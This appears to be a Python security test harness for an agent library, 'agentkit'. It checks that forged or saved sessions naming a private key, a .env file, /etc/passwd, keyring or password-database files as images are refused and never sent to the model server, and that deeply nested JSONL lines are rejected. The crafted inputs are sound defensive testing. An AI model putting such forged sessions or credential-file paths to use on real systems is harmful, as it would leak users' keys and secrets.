    """A saved session whose picture's path names ``make(root)``: sending it must be a clear UserError."""

    def attack() -> bool:
        from agentkit import Session, SessionStore
        from agentkit.backends._openai_media import openai_part
        from agentkit.errors import UserError
        from agentkit.messages import ImagePart, UserMessage

        with tempfile.TemporaryDirectory() as tmp:
            root = Path(tmp)
            target = make(root)
            store = SessionStore(root / "sessions")
            store.save(Session(id="s", conversation=[UserMessage((ImagePart(path=str(target)),))]))
            part = store.load("s").conversation[0].content[0]  # type: ignore[index, union-attr]

            def send() -> bool:
                try:
                    openai_part(part)
                except UserError:
                    return True
                return False

            def unblock() -> None:
                with contextlib.suppress(OSError):
                    os.close(os.open(target, os.O_WRONLY | os.O_NONBLOCK))

            return _within(10, send, unblock)

    return attack


def _forged_session_refused(content: bytes, pin: str | None = None) -> Callable[[], bool]:
    """A session file written by hand (not by agentkit) naming a file of the user's as its picture, optionally
    with a made-up fingerprint: resuming it must send nothing of the file."""

    def attack() -> bool:
        from agentkit import SessionStore
        from agentkit.backends._openai_media import openai_part
        from agentkit.errors import UserError
        from agentkit.messages import to_chat

        with tempfile.TemporaryDirectory() as tmp:
            root = Path(tmp)
            (root / "secret").write_bytes(content)
            (root / "sessions").mkdir()
            part = {"type": "image", "path": str(root / "secret"), **({"sha256": pin} if pin is not None else {})}
            forged = {"format": "agentkit.session", "version": 2, "revision": 1, "id": "s"}
            forged["messages"] = [{"role": "user", "content": [part, {"type": "text", "text": "hi"}]}]
            (root / "sessions" / "s.json").write_text(json.dumps(forged))
            try:
                to_chat(SessionStore(root / "sessions").load("s").conversation, openai_part)
            except UserError:
                return True
            return False

    return attack


def _media_file_refused(content: bytes) -> Callable[[], bool]:
    """A file in no media format named as a picture (by a tool, ``--image`` or the API): never read for the model."""

    def attack() -> bool:
        from agentkit.errors import UserError
        from agentkit.media import read_media_file

        with tempfile.TemporaryDirectory() as tmp:
            (Path(tmp) / "f").write_bytes(content)
            try:
                read_media_file(Path(tmp) / "f")
            except UserError:
                return True
            return False

    return attack


def _deep_line_refused(read: str, text: str) -> Callable[[], bool]:
    def attack() -> bool:
        from agentkit.batch.files import read_done, read_tasks
        from agentkit.errors import UserError

        with tempfile.TemporaryDirectory() as tmp:
            path = Path(tmp) / "file.jsonl"
            path.write_text(text)
            try:
                (read_tasks if read == "tasks" else read_done)(path)
            except UserError:
                return True
            return False

    return attack


def file_attempts() -> list[Attempt]:
    def fifo(root: Path) -> Path:
        os.mkfifo(root / "shot.png")
        return root / "shot.png"

    def secret(name: str, text: str) -> Callable[[Path], Path]:
        def make(root: Path) -> Path:
            (root / name).write_text(text)
            return root / name

        return make

    key = "-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAE\n-----END OPENSSH PRIVATE KEY-----"
    deep = "[" * 100_000 + "]" * 100_000
    from agentkit.testing.samples import png

    binaries = {
        "a DER private key": bytes.fromhex("308204a40201000282010100") + bytes(range(256)),
        "a GNOME keyring": b"GnomeKeyring\n\r\x00\n" + bytes(range(256)),
        "a SQLite database": b"SQLite format 3\x00" + bytes(range(256)),
        "a KeePass database": bytes.fromhex("03d9a29a67fb4bb5") + bytes(range(256)),
        "a PNG header over a key": b"\x89PNG\r\n\x1a\n" + bytes.fromhex("308204a4") + bytes(range(256)),
        "a picture": png(),
    }
    return [
        (
            "files",
            "session image path is a private key (sent to the server)",
            _session_media_refused(secret("id", key)),
        ),
        ("files", "session image path is a .env file", _session_media_refused(secret(".env", "API_KEY=sk-1\n"))),
        ("files", "session image path is /etc/passwd", _session_media_refused(lambda r: Path("/etc/passwd"))),
        ("files", "session image path is a FIFO", _session_media_refused(fifo)),
        ("files", "session image path is /dev/null", _session_media_refused(lambda r: Path("/dev/null"))),
        ("files", "session image path is a folder", _session_media_refused(lambda r: r)),
        *[
            ("files", f"hand-written session names {what} (no fingerprint)", _forged_session_refused(content))
            for what, content in binaries.items()
        ],
        *[
            ("files", f"hand-written session names {what} (made-up fingerprint)", _forged_session_refused(content, pin))
            for what, content in binaries.items()
            for pin in ("0" * 64, "")
        ],
        *[
            ("files", f"{what} named as a picture", _media_file_refused(content))
            for what, content in binaries.items()
            if what != "a picture"
        ],
        ("files", "task line nested 100k deep", _deep_line_refused("tasks", '{"task": "x", "a": ' + deep + "}\n")),
        ("files", "results line nested 100k deep", _deep_line_refused("results", deep + "\n")),
    ]


def main() -> None:
    attempts = [
        *injection_attempts(),
        *tool_media_attempts(),
        *terminal_attempts(),
        *session_attempts(),
        *file_attempts(),
        *batch_attempts(),
        *media_url_attempts(),
        *schema_attempts(),
        *parser_attempts(),
    ]
    results: list[tuple[str, str, bool]] = []
    for category, name, attack in attempts:
        try:
            blocked = bool(attack())
        except Exception as exc:  # an attack that crashes agentkit is a hole too
            print(f"  HOLE     {name}: {type(exc).__name__}: {exc}")
            blocked = False
        results.append((category, name, blocked))
    print("\n== attempts that got through ==")
    for category, name, blocked in results:
        if not blocked:
            print(f"  HOLE     [{category}] {name}")
    print("\n== by category ==")
    tried, held = Counter(c for c, _, _ in results), Counter(c for c, _, b in results if b)
    for category in tried:
        print(f"  {category:10} attempts {tried[category]:4}   blocked {held[category]:4}")
    total, blocked_total = len(results), sum(b for _, _, b in results)
    print(f"attempts tried: {total}, blocked: {blocked_total}, holes: {total - blocked_total}")


if __name__ == "__main__":
    main()
